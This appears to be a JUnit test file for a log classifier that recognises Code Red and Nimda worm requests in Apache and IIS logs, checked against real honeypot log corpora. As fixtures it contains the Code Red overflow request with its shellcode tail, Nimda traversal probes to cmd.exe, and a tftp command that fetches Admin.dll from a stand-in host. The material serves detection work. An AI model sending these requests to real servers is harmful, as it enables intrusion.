package org.wormsign.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wormsign.format.LineParser;
import org.wormsign.format.LinePlan;
import org.wormsign.format.LogRecord;
import org.wormsign.format.apache.ApacheLogFormat;
import org.wormsign.format.iis.W3cFormat;
import org.wormsign.testing.Corpus;

/** The signature catalog against real positive lines and look-alike negatives (STYLE.md 6; facts from DOMAIN.md). */
class ClassifierTest {

    static final String TAIL = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
            + "%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a";

    static final LinePlan COMBINED = ApacheLogFormat.compile("combined");

    static String n(int count) { return "N".repeat(count); }

    static String x(int count) { return "X".repeat(count); }

    /** The verdict for one request line, logged as Apache combined would log it. */
    static Verdict classify(String request) {
        String line = "192.0.2.1 - - [02/Aug/2001:06:01:38 -0400] \"" + request + "\" 404 300 \"-\" \"-\"";
        byte[] b = line.getBytes(StandardCharsets.ISO_8859_1);
        LogRecord rec = new LogRecord();
        int r = COMBINED.newParser().parse(b, 0, b.length, rec);
        assertEquals(LineParser.RECORD, r, "the test line must parse: " + line);
        return Classifier.classify(rec);
    }

    static Verdict classifyPath(String uri) {
        return classify("GET " + uri + " HTTP/1.0");
    }

    // ---- the worm's own requests ----

    @ParameterizedTest(name = "[{index}] \"{0}\"")
    @ValueSource(strings = {"  HTTP/1.0", " HTTP/1.0", "   HTTP/1.0", ""})
    void codeRedIWithAnySpacingBeforeTheProtocol(String rest) {
        assertEquals(Verdict.CODE_RED, classify("GET /default.ida?" + n(224) + TAIL + rest));
    }

    @ParameterizedTest(name = "[{index}] \"{0}\"")
    @ValueSource(strings = {"  HTTP/1.0", " HTTP/1.0", ""})
    void codeRedIIWithAnySpacingBeforeTheProtocol(String rest) {
        assertEquals(Verdict.CODE_RED_II, classify("GET /default.ida?" + x(224) + TAIL + rest));
    }

    static Stream<Arguments> truncated() {
        return Stream.of(
                Arguments.of("64 N, cut", "GET /default.ida?" + n(64), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("100 N, cut", "GET /default.ida?" + n(100), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("224 N, no tail", "GET /default.ida?" + n(224), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("224 N, half the tail", "GET /default.ida?" + n(224) + TAIL.substring(0, 69), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("224 N, tail minus one char", "GET /default.ida?" + n(224) + TAIL.substring(0, 137), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("64 N, cut, with protocol", "GET /default.ida?" + n(64) + " HTTP/1.0", Verdict.CODE_RED_TRUNCATED),
                Arguments.of("64 X, cut", "GET /default.ida?" + x(64), Verdict.CODE_RED_II_TRUNCATED),
                Arguments.of("200 X, cut", "GET /default.ida?" + x(200), Verdict.CODE_RED_II_TRUNCATED),
                Arguments.of("224 X, no tail", "GET /default.ida?" + x(224), Verdict.CODE_RED_II_TRUNCATED),
                Arguments.of("224 X, part of the tail", "GET /default.ida?" + x(224) + "%u9090%u68", Verdict.CODE_RED_II_TRUNCATED));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("truncated")
    void truncatedFormsAreFlagged(String name, String request, Verdict expected) {
        Verdict v = classify(request);
        assertEquals(expected, v);
        assertTrue(v.isAttempt());
        assertTrue(v.truncated());
    }

    @Test
    void theMinimumRunIs64() {
        assertEquals(64, Classifier.MIN_RUN, "DESIGN.md: a Code Red attempt has at least 64 N or X");
        assertEquals(Verdict.OTHER_IDA, classify("GET /default.ida?" + n(63)));
        assertEquals(Verdict.OTHER_IDA, classify("GET /default.ida?" + n(63) + TAIL));
        assertEquals(Verdict.OTHER_IDA, classify("GET /default.ida?" + x(63)));
        assertEquals(Verdict.OTHER_IDA, classify("GET /default.ida?" + n(63) + "M" + n(160)));
        assertEquals(Verdict.CODE_RED_TRUNCATED, classify("GET /default.ida?" + n(64)));
        assertEquals(Verdict.CODE_RED_II_TRUNCATED, classify("GET /default.ida?" + x(64)));
    }

    // ---- look-alikes ----

    @ParameterizedTest(name = "{0}")
    @MethodSource("cleanLookAlikes")
    void lookAlikesAreClean(String uri) {
        assertEquals(Verdict.CLEAN, classifyPath(uri));
    }

    static Stream<String> cleanLookAlikes() {
        return Stream.of(
                "/default.idx",
                "/default.idx?" + n(224) + TAIL,
                "/search?q=default.ida",
                "/search?q=/default.ida?" + n(224) + TAIL,
                "/docs/default.ida.html",
                "/default.ida.bak",
                "/_vti_bin/shtml.dll",
                "/_vti_bin/shtml.dll/_vti_rpc",
                "/_vti_bin/_vti_aut/author.dll",
                "/_vti_bin/owssvr.dll?UL=1&ACT=4",
                "/msadc/msadcs.dll",
                "/MSADC/msadcs.dll/VbBusObj.VbBusObjCls.GetRecordset",
                "/scripts/",
                "/scripts/../index.html",
                "/cgi-bin/foo?" + n(223),
                "/cgi-bin/foo?" + n(224) + TAIL,
                "/",
                "/index.html");
    }

    /** FrontPage's own admin DLL is legitimate FrontPage traffic (DOMAIN.md: _vti_bin alone is not Nimda). */
    @Test
    void frontPageAdminDllIsClean() {
        assertEquals(Verdict.CLEAN, classifyPath("/_vti_bin/_vti_adm/admin.dll"));
    }

    @Test
    void unreadableRequestsAreClean() {
        assertEquals(Verdict.CLEAN, classify("-"));
        assertEquals(Verdict.CLEAN, classify("\u0004\u0001"));
        assertEquals(Verdict.CLEAN, classify(""));
    }

    // ---- other Index Server requests ----

    @ParameterizedTest(name = "{0}")
    @MethodSource("otherIda")
    void otherIndexServerRequests(String uri) {
        Verdict v = classifyPath(uri);
        assertEquals(Verdict.OTHER_IDA, v);
        assertFalse(v.isAttempt());
        assertNull(v.variant());
    }

    static Stream<String> otherIda() {
        return Stream.of(
                "/null.idq",
                "/null.ida",
                "/NULL.IDQ",
                "/default.ida",
                "/default.ida?",
                "/default.ida?abc",
                "/default.ida?" + "n".repeat(224) + TAIL,
                "/default.ida?" + "A".repeat(224) + TAIL,
                "/DEFAULT.IDA?" + n(224) + TAIL,
                "/Default.ida?" + x(224) + TAIL,
                "/scripts/default.ida?" + n(224) + TAIL,
                "/iisadmin/samples/search.idq?x=1");
    }

    // ---- encoded stems (issue 15): IIS decodes the stem once before it picks the handler ----

    static Stream<Arguments> encodedStems() {
        String worm = n(224) + TAIL, wormII = x(224) + TAIL;
        return Stream.of(
                // The worm's stem, encoded: what IIS maps is /default.ida, so the worm's query makes it Code Red.
                Arguments.of("/default.id%u0061?" + worm, Verdict.CODE_RED),
                Arguments.of("/default.id%u0061?" + wormII, Verdict.CODE_RED_II),
                Arguments.of("/default.id%U0061?" + worm, Verdict.CODE_RED),
                Arguments.of("/default.%69da?" + worm, Verdict.CODE_RED),
                Arguments.of("/%64efault.ida?" + wormII, Verdict.CODE_RED_II),
                Arguments.of("/defau%6Ct.ida?" + worm, Verdict.CODE_RED),
                Arguments.of("/defau%6ct.ida?" + worm, Verdict.CODE_RED),
                Arguments.of("/%64%65%66%61%75%6c%74%2e%69%64%61?" + wormII, Verdict.CODE_RED_II),
                Arguments.of("/default.%69da?" + n(100), Verdict.CODE_RED_TRUNCATED),
                Arguments.of("/default.id%u0061?" + x(64), Verdict.CODE_RED_II_TRUNCATED),
                // Index Server requests that are not the worm's.
                Arguments.of("/default.id%u0061", Verdict.OTHER_IDA),
                Arguments.of("/default.id%u0061?", Verdict.OTHER_IDA),
                Arguments.of("/default.%69da?" + "R".repeat(224), Verdict.OTHER_IDA),
                Arguments.of("/default.%69da?" + n(63) + TAIL, Verdict.OTHER_IDA),
                Arguments.of("/default.id%u0071", Verdict.OTHER_IDA),
                Arguments.of("/default.id%71?" + worm, Verdict.OTHER_IDA),
                Arguments.of("/null.id%u0071", Verdict.OTHER_IDA),
                Arguments.of("/x%2eida", Verdict.OTHER_IDA),
                Arguments.of("/scripts/default%2Eida?" + worm, Verdict.OTHER_IDA),
                Arguments.of("/%zzdefault.id%u0061?" + worm, Verdict.OTHER_IDA),
                // Decoded, the name is not the worm's spelling (DOMAIN.md gives it byte for byte): an Index Server request.
                Arguments.of("/default.%49da?" + worm, Verdict.OTHER_IDA),
                Arguments.of("/default.id%u0041?" + worm, Verdict.OTHER_IDA),
                // Decoded once only: %25 is a '%', and what follows it is not decoded again.
                Arguments.of("/default.%2569da?" + worm, Verdict.CLEAN),
                Arguments.of("/default.ida%2569", Verdict.CLEAN),
                Arguments.of("/default.id%2561?" + worm, Verdict.CLEAN),
                Arguments.of("/default.id%25u0061?" + worm, Verdict.CLEAN),
                Arguments.of("/default.%%369da?" + worm, Verdict.CLEAN),
                // Escapes that are none stay as they are; %69 is 'i', %6A 'j'.
                Arguments.of("/default.id%u006?" + worm, Verdict.CLEAN),
                Arguments.of("/default.id%u00g1?" + worm, Verdict.CLEAN),
                Arguments.of("/default.id%6?" + worm, Verdict.CLEAN),
                Arguments.of("/default.id%?" + worm, Verdict.CLEAN),
                Arguments.of("/default.%6Ada?" + worm, Verdict.CLEAN),
                // A UTF-16 unit that is not ASCII is not the letter (no best-fit mapping, no truncation to a byte).
                Arguments.of("/default.id%uFF41?" + worm, Verdict.CLEAN),
                Arguments.of("/default.id%u0161?" + worm, Verdict.CLEAN),
                // A megabyte of escapes: bounded work, and no cap that would stop reading a long stem's end.
                Arguments.of("/" + "%41".repeat(350_000), Verdict.CLEAN),
                Arguments.of("/" + "%41".repeat(350_000) + "%2Eid%u0061", Verdict.OTHER_IDA),
                Arguments.of("/" + "%u002f".repeat(175_000) + "default.ida?" + worm, Verdict.OTHER_IDA));
    }

    @ParameterizedTest(name = "[{index}] {1}")
    @MethodSource("encodedStems")
    void encodedStemsAreReadAsIisMapsThem(String uri, Verdict expected) {
        assertEquals(expected, classifyPath(uri), uri.length() > 200 ? uri.substring(0, 200) + "…" : uri);
    }

    /**
     * A W3C log without {@code cs-uri-query}: {@code isDefaultIda} (the Aggregator's
     * {@code default_ida_without_query}) decodes the stem as {@code classify} does, so the two agree.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource({"/default.ida,true,OTHER_IDA", "/default.id%u0061,true,OTHER_IDA", "/default.%69da,true,OTHER_IDA",
            "/%64efault.ida,true,OTHER_IDA", "/default.%2569da,false,CLEAN", "/DEFAULT.IDA,false,OTHER_IDA",
            "/default.id%u0071,false,OTHER_IDA", "/index.html,false,CLEAN"})
    void isDefaultIdaDecodesTheStemAsClassifyDoes(String stem, boolean defaultIda, Verdict verdict) {
        LineParser parser = new W3cFormat().newParser();
        LogRecord rec = new LogRecord();
        byte[] fields = "#Fields: date time c-ip cs-method cs-uri-stem sc-status".getBytes(StandardCharsets.US_ASCII);
        assertEquals(LineParser.SKIPPED, parser.parse(fields, 0, fields.length, rec));
        byte[] line = ("2001-07-19 10:00:00 61.1.1.1 GET " + stem + " 404").getBytes(StandardCharsets.US_ASCII);
        assertEquals(LineParser.RECORD, parser.parse(line, 0, line.length, rec));
        assertFalse(rec.queryLogged());
        assertEquals(defaultIda, Classifier.isDefaultIda(rec));
        assertEquals(verdict, Classifier.classify(rec), "with no query seen, /default.ida is an Index Server request");
    }

    // ---- Nimda ----

    static final String[] TRAVERSALS = {
            "..%255c..", "..%c0%af..", "..%c1%1c..", "..%c1%9c..", "..%c0%2f..", "..%%35c..", "..%%35%63..", "..%25%35%63..", "..%252f.."};

    static final String[] ROOTS = {"/scripts/", "/_vti_bin/", "/_mem_bin/", "/msadc/"};

    static Stream<String> nimdaForms() {
        List<String> forms = new ArrayList<>(List.of(
                "/scripts/root.exe?/c+dir",
                "/MSADC/root.exe?/c+dir",
                "/c/winnt/system32/cmd.exe?/c+dir",
                "/d/winnt/system32/cmd.exe?/c+dir",
                "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
                "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
                "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
                "/scripts/root.exe?/c+tftp%20-i%20192.0.2.9%20GET%20Admin.dll%20c:\\Admin.dll",
                "/c/winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.9%20GET%20Admin.dll%20d:\\Admin.dll",
                "/scripts/Admin.dll",
                // IIS logs these once-decoded: %5c, and raw 0xC0 0xAF.
                "/scripts/..%5c../winnt/system32/cmd.exe?/c+dir",
                "/scripts/..\u00c0\u00af../winnt/system32/cmd.exe?/c+dir"));
        for (String root : ROOTS) {
            for (String t : TRAVERSALS) forms.add(root + t + "/winnt/system32/cmd.exe?/c+dir");
        }
        return forms.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("nimdaForms")
    void everyNimdaFormIsNimda(String uri) {
        assertEquals(Verdict.NIMDA, classifyPath(uri));
        assertEquals(Verdict.NIMDA, classify("get " + uri), "lower-case, no protocol, as Apache logged some");
    }

    /** The traversal alone, with no backdoor name after it, is what marks these roots (DOMAIN.md). */
    static Stream<String> traversalsWithoutBackdoorName() {
        List<String> forms = new ArrayList<>();
        for (String root : ROOTS) {
            for (String t : TRAVERSALS) forms.add(root + t + "/winnt/win.ini");
            forms.add(root.toUpperCase(Locale.ROOT) + TRAVERSALS[0] + "/winnt/win.ini");
        }
        forms.add("/scripts/..%5c../winnt/win.ini");
        forms.add("/scripts/..\u00c0\u00af../winnt/win.ini");
        forms.add("/scripts/..\\../winnt/win.ini");
        return forms.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("traversalsWithoutBackdoorName")
    void traversalUnderAScriptRootIsNimda(String uri) {
        assertEquals(Verdict.NIMDA, classifyPath(uri));
    }

    @Test
    void verdictsCarryTheirVariant() {
        assertEquals(Verdict.Variant.CODE_RED, Verdict.CODE_RED.variant());
        assertEquals(Verdict.Variant.CODE_RED, Verdict.CODE_RED_TRUNCATED.variant());
        assertEquals(Verdict.Variant.CODE_RED_II, Verdict.CODE_RED_II.variant());
        assertEquals(Verdict.Variant.CODE_RED_II, Verdict.CODE_RED_II_TRUNCATED.variant());
        assertFalse(Verdict.CODE_RED.truncated());
        assertFalse(Verdict.NIMDA.isAttempt());
        assertFalse(Verdict.CLEAN.isAttempt());
    }

    // ---- the real corpus, read at run time ----

    /** Per file, from corpus/real/README.md: Code Red I lines, Code Red II lines, Nimda-style lines. */
    record Expected(int codeRed, int codeRedII, int nimda, Map<Integer, Integer> attemptStatuses) {}

    static final Map<String, Expected> README = Map.of(
            "apache-combined-darwinsys-2001aug.log", new Expected(2, 0, 0, Map.of(400, 2)),
            "apache-combined-honeynet-rh71-2004jul.log", new Expected(0, 8, 176, Map.of(404, 7, 200, 1)),
            "apache-combined-honeynet-rh71-2004sep.log", new Expected(0, 66, 884, Map.of(404, 66)),
            "apache-combined-honeynet-rh71-2004-ida-extract.log", new Expected(0, 94, 0, Map.of(404, 94)),
            "apache-combined-honeynet-sotm34-2005.log", new Expected(0, 29, 674, Map.of(404, 29)),
            "apache-combined-honeynet-sotm34-2005-ida-extract.log", new Expected(0, 11, 0, Map.of(404, 11)),
            "apache-combined-honeynet-2005jun-nocodered.log", new Expected(0, 0, 318, Map.of()));

    static Stream<Path> realApacheFiles() throws IOException {
        List<Path> files = new ArrayList<>();
        try (DirectoryStream<Path> ds = Files.newDirectoryStream(Corpus.real(), "apache-combined-*.log")) {
            ds.forEach(files::add);
        }
        files.sort(null);
        assertEquals(README.keySet(), files.stream().map(p -> p.getFileName().toString()).collect(java.util.stream.Collectors.toSet()));
        return files.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("realApacheFiles")
    void realCorpusVerdictsMatchItsReadme(Path file) throws IOException {
        Expected expected = README.get(file.getFileName().toString());
        byte[] data = Files.readAllBytes(file);
        LineParser parser = COMBINED.newParser();
        LogRecord rec = new LogRecord();
        Map<Verdict, Integer> counts = new EnumMap<>(Verdict.class);
        Map<Integer, Integer> attemptStatuses = new TreeMap<>();
        List<String> problems = new ArrayList<>();
        int nimdaStyle = 0;
        int s = 0, lineNo = 0;
        for (int i = 0; i < data.length; i++) {
            if (data[i] != '\n') continue;
            lineNo++;
            String text = new String(data, s, i - s, StandardCharsets.ISO_8859_1);
            assertEquals(LineParser.RECORD, parser.parse(data, s, i, rec), "line " + lineNo);
            Verdict v = Classifier.classify(rec);
            counts.merge(v, 1, Integer::sum);
            if (v.isAttempt()) attemptStatuses.merge(rec.status(), 1, Integer::sum);
            // Every default.ida line of these files is a complete Code Red request.
            if (text.contains("default.ida") && v != Verdict.CODE_RED && v != Verdict.CODE_RED_II) {
                problems.add("line " + lineNo + " has default.ida but is " + v);
            }
            String lower = text.toLowerCase(Locale.ROOT);
            if (lower.contains("root.exe") || lower.contains("cmd.exe")) {
                nimdaStyle++;
                if (v != Verdict.NIMDA) problems.add("line " + lineNo + " is a Nimda-style probe but is " + v);
            }
            s = i + 1;
        }
        assertEquals(List.of(), problems);
        assertEquals(expected.codeRed(), counts.getOrDefault(Verdict.CODE_RED, 0), "Code Red I");
        assertEquals(expected.codeRedII(), counts.getOrDefault(Verdict.CODE_RED_II, 0), "Code Red II");
        assertEquals(0, counts.getOrDefault(Verdict.CODE_RED_TRUNCATED, 0));
        assertEquals(0, counts.getOrDefault(Verdict.CODE_RED_II_TRUNCATED, 0));
        assertEquals(expected.nimda(), nimdaStyle, "Nimda-style lines in the file");
        assertEquals(expected.nimda(), counts.getOrDefault(Verdict.NIMDA, 0), "NIMDA verdicts");
        assertEquals(new TreeMap<>(expected.attemptStatuses()), attemptStatuses, "statuses of the attempts");
    }

    /** The real Code Red lines themselves, each run through the classifier on its own. */
    static Stream<Arguments> realCodeRedLines() throws IOException {
        List<Arguments> lines = new ArrayList<>();
        for (Path file : realApacheFiles().toList()) {
            for (String line : Files.readAllLines(file, StandardCharsets.ISO_8859_1)) {
                if (line.contains("default.ida")) {
                    lines.add(Arguments.of(file.getFileName() + ": " + line.substring(0, line.indexOf('?') + 8) + "…", line));
                }
            }
        }
        assertEquals(2 + 208, lines.size(), "the README's 2 Code Red I and 208 Code Red II lines");
        return lines.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("realCodeRedLines")
    void realCodeRedLine(String name, String line) {
        byte[] b = line.getBytes(StandardCharsets.ISO_8859_1);
        LogRecord rec = new LogRecord();
        assertEquals(LineParser.RECORD, COMBINED.newParser().parse(b, 0, b.length, rec));
        Verdict expected = rec.query().startsWith("NNNN") ? Verdict.CODE_RED : Verdict.CODE_RED_II;
        assertEquals(expected, Classifier.classify(rec));
        assertEquals(Classifier.TAIL, rec.query().substring(224), "the full tail follows the padding");
    }

    /**
     * The SANS SEC505 lab logs (IIS 5.0 W3C, in the peer corpus) each hold one {@code /default.id%u0061}
     * request with no query, answered 404. Decoded it is {@code /default.ida}: an Index Server request, not
     * Code Red (no worm query). Its {@code cs-uri-query} column was logged ({@code -}), so it is not one of
     * the {@code default_ida_without_query} requests, whose query could not have been seen.
     */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"iis-w3c-sans-sec505-lab-2010.log", "iis-w3c-sans-sec505-lab-2012.log"})
    void sec505EncodedDefaultIdaIsAnIndexServerRequest(String name) throws IOException {
        Path sec505 = Corpus.peerFile("sec505");
        byte[] data = Files.readAllBytes(sec505.resolve(name));
        LineParser parser = new W3cFormat().newParser();
        LogRecord rec = new LogRecord();
        int encoded = 0;
        for (int s = 0, i = 0; i < data.length; i++) {
            if (data[i] != '\n') continue;
            int r = parser.parse(data, s, i, rec);
            String text = new String(data, s, i - s, StandardCharsets.ISO_8859_1);
            if (text.contains(" /default.id%u0061 ")) {
                encoded++;
                assertEquals(LineParser.RECORD, r, text);
                assertEquals("/default.id%u0061", rec.path());
                assertEquals(Verdict.OTHER_IDA, Classifier.classify(rec), text);
                assertTrue(Classifier.isDefaultIda(rec));
                assertTrue(rec.queryLogged() && !rec.hasQuery());
                assertEquals(404, rec.status());
            }
            s = i + 1;
        }
        assertEquals(1, encoded, "the peer corpus README's /default.id%u0061 look-alike");
    }

    @Test
    void darwinsysLinesAreCodeRedI() throws IOException {
        List<String> lines = Files.readAllLines(Corpus.realFile("apache-combined-darwinsys-2001aug.log"), StandardCharsets.ISO_8859_1);
        assertEquals(2, lines.size());
        for (String line : lines) {
            byte[] b = line.getBytes(StandardCharsets.ISO_8859_1);
            LogRecord rec = new LogRecord();
            assertEquals(LineParser.RECORD, COMBINED.newParser().parse(b, 0, b.length, rec));
            assertEquals(Verdict.CODE_RED, Classifier.classify(rec));
            assertEquals(400, rec.status());
        }
    }
}
